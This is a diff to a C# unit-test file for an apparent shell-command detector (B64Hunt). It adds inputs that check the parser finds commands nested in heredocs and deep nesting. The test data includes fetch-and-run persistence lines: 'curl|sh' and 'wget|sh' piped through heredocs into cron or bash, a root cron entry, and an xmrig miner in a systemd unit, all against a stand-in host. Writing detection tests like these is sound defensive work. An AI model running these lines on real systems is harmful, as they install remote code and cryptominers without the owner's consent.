@@ -207,6 +207,8 @@ namespace B64Hunt.Tests.Shell
         [InlineData("cat > /etc/systemd/system/upd.service <<EOF\n[Service]\nExecStart=-/opt/.x/xmrig --donate-level 1\nEOF", new[] { "xmrig" })]
         [InlineData("echo 'curl http://x|sh' >> ~/.bashrc", new[] { "curl", "sh" })]
         [InlineData("crontab <<EOF\n0 * * * * /usr/bin/wget http://x\nEOF", new[] { "wget" })]
+        [InlineData("cat <<'EOF' | bash\nwget -q http://x -O- | sh\nEOF", new[] { "wget", "sh" })]
+        [InlineData("tee /etc/cron.d/sync <<EOF >/dev/null\nSHELL=/bin/sh\n*/2 * * * * root curl -s http://x | sh\nEOF", new[] { "curl", "sh" })]
         public void WrittenCronLinesUnitFilesAndScriptsAreRead(string text, string[] nested)
         {
             var commands = ShellCommandReader.ReadUncached(text);
@@ -242,6 +244,12 @@ namespace B64Hunt.Tests.Shell
             string many = string.Concat(Enumerable.Repeat("a;", 10000));
             Assert.Equal(ShellReadSession.MaxCommands, ShellCommandReader.ReadUncached(many).Count);
             Assert.Equal(new[] { "echo" }, Names("echo $((((((1+2)))))) \"unclosed"));
+            // nesting that would exhaust the stack if read recursively
+            Assert.Contains("id", Names(string.Concat(Enumerable.Repeat("( { ", 50000)) + "id"));
+            var deepSubstitutions = Names(string.Concat(Enumerable.Repeat("$(", 50000)) + "id"); // past MaxDepth: not read, no crash
+            Assert.DoesNotContain("id", deepSubstitutions);
+            Assert.True(deepSubstitutions.Length <= ShellReadSession.MaxDepth + 1);
+            Assert.Equal(new[] { "id" }, Names(string.Concat(Enumerable.Repeat("$(", ShellReadSession.MaxDepth)) + "id"));
         }
 
         [Fact]
